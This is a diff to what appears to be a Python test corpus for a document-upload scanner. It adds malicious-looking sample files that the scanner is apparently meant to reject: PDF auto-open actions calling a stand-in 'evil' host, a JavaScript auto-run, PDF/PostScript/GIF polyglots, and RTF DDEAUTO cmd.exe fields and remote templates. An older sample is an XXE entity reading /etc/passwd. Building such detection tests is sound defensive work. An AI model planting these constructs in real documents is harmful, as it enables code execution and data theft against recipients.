@@ -79,12 +79,12 @@ def xlsx(text: str = "Green tea", **more: bytes | str) -> bytes:
     return archive({**parts, **named(more)})
 
 
-def pdf_with(catalog: bytes, *objects: bytes) -> bytes:
-    """Return a PDF of one page whose catalog has more entries, and more objects from number 4 on."""
+def pdf_with(catalog: bytes, *objects: bytes, page: bytes = b"") -> bytes:
+    """Return a PDF of one page; the catalog and the page have more entries, and more objects begin at number 4."""
     bodies = [
         b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] " + page + b" >>",
         *objects,
     ]
     data, offsets = b"%PDF-1.7\n", list[int]()
@@ -174,6 +174,21 @@ SCRIPTS = {
     ),
     "many updates": pdf("Tea.") + b"\nstartxref\n0\n%%EOF" * 6,
     "long streams": pdf_with(b"", b"<< /Length 104857601 >>"),
+    "an address to open at once": pdf_with(b"/OpenAction << /S /URI /URI (http://evil/x) >>"),
+    "an address behind another action": pdf_with(
+        b"/OpenAction 4 0 R /X 5 0 R",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>",
+        b"<< /S /URI /URI (http://evil/x) >>",
+    ),
+    "an address at another event": pdf_with(
+        b"/X [4 0 R] /AA 5 0 R",
+        b"<< /S /URI /URI (http://evil/x) >>",
+        b"<< /WS 4 0 R >>",
+    ),
+    "an unknown action at once": pdf_with(b"/OpenAction << /S /Fetch /F (http://evil/x) >>"),
+    "a thread of another file": pdf_with(b"/OpenAction << /S /Thread /F (http://evil/x) /D 0 >>"),
+    "a thread of another file to click": pdf_with(b"/A << /S /Thread /F (//evil/x) /D 0 >>"),
+    "a form that is sent": pdf_with(b"/A << /S /SubmitForm /F (http://evil/x) >>"),
     "a circle of actions": pdf_with(
         b"/OpenAction 4 0 R", b"<< /S /GoTo /Next 5 0 R >>", b"<< /S /Launch /Next 4 0 R >>"
     ),
@@ -298,10 +313,37 @@ ACTIVE = {
             ("rtd (A1)", "f"),
         )
     },
+    "a control": xlsx(xl__ctrlProps__ctrlProp1_xml="<formControlPr objectType='Button'/>"),
+    "the relation of a control": related("ctrlProp"),
+    "a button": xlsx(
+        xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:ClientData ObjectType='Button'/></x>"
+    ),
+    "a macro of a note": xlsx(
+        xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:FmlaMacro>[0]!run</x:FmlaMacro></x>"
+    ),
+    "a macro of a shape": xlsx(
+        xl__drawings__drawing1_xml="<x xmlns:xdr='x'><xdr:sp macro='[0]!run'/></x>"
+    ),
+    **{
+        f"the name {name}": xlsx(
+            xl__workbook_xml=f"<workbook><definedName name='{name}'>Sheet1!A1</definedName></workbook>"
+        )
+        for name in ("_xlnm.Auto_Open", "auto_close", "Auto_Open1")
+    },
+    **{
+        f"data of Power Query in {encoding}": xlsx(
+            customXml__item1_xml=f"<?xml version='1.0' encoding='{encoding}'?><DataMashup "
+            "xmlns='http://schemas.microsoft.com/DataMashup'>AAAA</DataMashup>".encode(encoding)
+        )
+        for encoding in ("utf-8", "utf-16")
+    },
 }
 ENTITIES = {
     "entities": docx(x_xml='<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
     "an entity of a file": docx(x_xml='<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
+    "a field in an encoding that cannot be read": docx(
+        word__header1_xml="<?xml version='1.0' encoding='utf-7'?><x>+AEQ-DE cmd</x>"
+    ),
     "entities in UTF-16": docx(x_xml='<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")),
 }
 BOMBS = {
@@ -340,14 +382,53 @@ BOMBS = {
     ),
     "no XML": archive({"[Content_Types].xml": "", "word/document.xml": "<x"}),
 }
+SCRIPT_AT_ONCE = pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
 POLYGLOTS = {
+    "a PDF after a line of PostScript": b"%!PS\n" + SCRIPT_AT_ONCE,
+    "a PDF by the header of PostScript": SCRIPT_AT_ONCE.replace(
+        b"%PDF-1.7", b"%!PS-Adobe-3.0 PDF-1.7"
+    ),
+    "a PDF after words": b"tea " * 250 + SCRIPT_AT_ONCE,
+    "a PDF without its dash": b"tea\n" + SCRIPT_AT_ONCE.replace(b"%PDF-", b"%PDF"),
+    "a PDF with comments between its words": b"tea\n"
+    + SCRIPT_AT_ONCE.replace(b" 0 obj", b"%x\n0%x\nobj"),
+    "a PDF in a GIF": gif(9, 9)[:-1] + b"!\xfe\xff" + SCRIPT_AT_ONCE[:255] + b"\0;",
     "a PNG with an archive": png(9, 9) + archive({"a": "b"}),
     "a GIF with an archive": gif(9, 9) + docx(),
     "a JPEG with an archive": jpeg(9, 9) + archive({"a": "b"}),
     "a WebP with an archive": webp(b"VP8 ", 9, 9) + archive({"a": "b"}),
     "a PDF with an archive": pdf("x") + archive({"a": "b"}),
 }
+RTF = r"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 %s\par}"
+
+
+def rtf(text: str) -> bytes:
+    """Return an RTF document of a paragraph."""
+    return (RTF % text).encode("cp1252")
+
+
+RICH_TEXTS = {
+    "an object": rtf(r"{\object\objocx{\*\objdata 0105000002000000}}"),
+    "the data of an object alone": rtf(r"{\*\objdata 0105000002000000}"),
+    "a linked object that is updated": rtf(r"{\object\objautlink\objupdate}"),
+    "a field": rtf(r"{\field{\*\fldinst DDEAUTO cmd.exe}}"),
+    "a field in hexadecimal": rtf(r"{\field{\*\fldinst{\'44\'44}{E} cmd.exe}{\fldrslt x}}"),
+    "a template from elsewhere": rtf(r"{\*\template http://evil/x}"),
+    "a subdocument": rtf(r"{\filetbl{\file\fid0 \\evil\x}}\subdocument0"),
+    "mail merge": rtf(r"{\*\mailmerge{\mmconnectstr x}}"),
+    "a picture by its address": rtf(r"{\sp{\sn pibName}{\sv http://evil/x}}"),
+    "an object behind raw bytes": rtf(r"\bin1 \\objdata 0105"),
+    "an object behind a backslash": rtf(r"\\\object\objdata 0105"),
+    "an object in capital letters": rtf(r"{\OBJECT\OBJDATA 0105}"),
+    "an object and a short signature": rtf(r"\objdata 0105").replace(b"rtf1", b"rt"),
+    "an object after a mark and spaces": b"\xef\xbb\xbf \r\n" + rtf(r"\objdata 0105"),
+    "an object and umlauts": rtf("Grüner Tee: äöüß. \\objdata 0105"),
+}
 UNKNOWN = {
+    "a binary workbook": archive({"[Content_Types].xml": TYPES.format(""), "xl/workbook.bin": "x"}),
+    "another package of parts": archive(
+        {"[Content_Types].xml": TYPES.format(""), "tea.nuspec": "<x/>"}
+    ),
     "an archive": archive({"a.txt": "b"}),
     "an empty archive": archive({}),
     "a Java archive": archive({"META-INF/MANIFEST.MF": "x"}),
@@ -377,6 +458,24 @@ def truncated() -> list[Sample]:
     ]
 
 
+HARMLESS_PDFS = {
+    "pictured in a page.pdf": pdf_with(
+        b"/X << /XObject << /I 4 0 R >> >>",
+        b"<< /Type /XObject /Subtype /Image /Length 1 >>\nstream\nx\nendstream",
+    ),
+    "plain.pdf": pdf("Green tea."),
+    "long.pdf": pdf(*(f"Page {n}" for n in range(60))),
+    "goes to a page.pdf": pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "form.pdf": pdf_with(b"/AcroForm << /Fields [4 0 R] >>", b"<< /T (name) /FT /Tx >>"),
+    "linked.pdf": pdf_with(b"/X << /S /URI /URI (http://a) >>"),
+    "linked on its first page.pdf": pdf_with(
+        b"/OpenAction [4 0 R /Fit] /AA << /WP << /S /Named /N /Print /Next 4 0 R >> >>",
+        b"<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>",
+        b"<< /Subtype /Link /A << /S /URI /URI (http://a) /Next << /S /Thread /D 0 >> >> >>",
+    ),
+}
+
+
 def harmless() -> list[Sample]:
     """Files that must be taken."""
     files = {
@@ -404,7 +503,20 @@ def harmless() -> list[Sample]:
             + field(' HYPERLINK "http://a" \\o "LINK" ')
             + '</w:t><w:fldSimple w:instr=" DATE "/><w:t>'
         ),
-        "noted.xlsx": xlsx(xl__comments1_xml="<x/>", xl__drawings__vmlDrawing1_vml="<x/>"),
+        "noted.xlsx": xlsx(
+            xl__comments1_xml="<x/>",
+            xl__drawings__vmlDrawing1_vml="<x xmlns:x='x'><x:ClientData ObjectType='Note'/></x>",
+        ),
+        "picture in a cell.xlsx": xlsx(
+            xl___rels__workbook_xml_rels=RELATIONS.format(
+                '<Relationship Type="http://x/richValueRel" Target="richData/richValueRel.xml"/>'
+            ),
+            xl__richData__richValueRel_xml="<x/>",
+        ),
+        "drawn.xlsx": xlsx(
+            xl__drawings__drawing1_xml="<x xmlns:xdr='x'><xdr:sp macro=''/><xdr:clientData/></x>",
+            xl__workbook_xml="<workbook><definedName name='Auto'>Sheet1!A1</definedName></workbook>",
+        ),
         "styled.docx": docx(
             word__styles_xml="<x/>",
             word__header1_xml="<x/>",
@@ -413,16 +525,12 @@ def harmless() -> list[Sample]:
             docProps__core_xml="<x/>",
         ),
         "calculated.xlsx": calculated("SUM('a|b'!A1:A3) &amp; &quot;a|b&quot;"),
-        "pictured in a page.pdf": pdf_with(
-            b"/X << /XObject << /I 4 0 R >> >>",
-            b"<< /Type /XObject /Subtype /Image /Length 1 >>\nstream\nx\nendstream",
-        ),
         "repeated.docx": docx("tea " * 40_000),
-        "plain.pdf": pdf("Green tea."),
-        "long.pdf": pdf(*(f"Page {n}" for n in range(60))),
-        "goes to a page.pdf": pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
-        "form.pdf": pdf_with(b"/AcroForm << /Fields [4 0 R] >>", b"<< /T (name) /FT /Tx >>"),
-        "linked.pdf": pdf_with(b"/X << /S /URI /URI (http://a) >>"),
+        **HARMLESS_PDFS,
+        "note.rtf": rtf(r"Green \b tea\b0 : C:\\object\\field, \{\u8220?tea\'94\}."),
+        "umlauts.rtf": rtf("Grüner Tee für alle, die gerne Tee trinken, nur 3 €."),
+        "about pdf.md": b"A file with the header %PDF-1.7 has objects.",
+        "of pdf.txt": b"tea\n" * 300 + b"%PDF-1.7\n1 0 obj",
         "updated.pdf": pdf("Tea.") + b"\nstartxref\n9\n%%EOF"[:0],
         **shown(),
         "photo named as text.txt": png(6, 4),
@@ -436,6 +544,7 @@ def corpus() -> list[Sample]:
         ("pdf", SCRIPTS),
         ("docx", {**MACROS, **ACTIVE, **ENTITIES, **BOMBS}),
         ("png", POLYGLOTS),
+        ("rtf", RICH_TEXTS),
         ("bin", UNKNOWN),
         ("png", broken()),
     ]
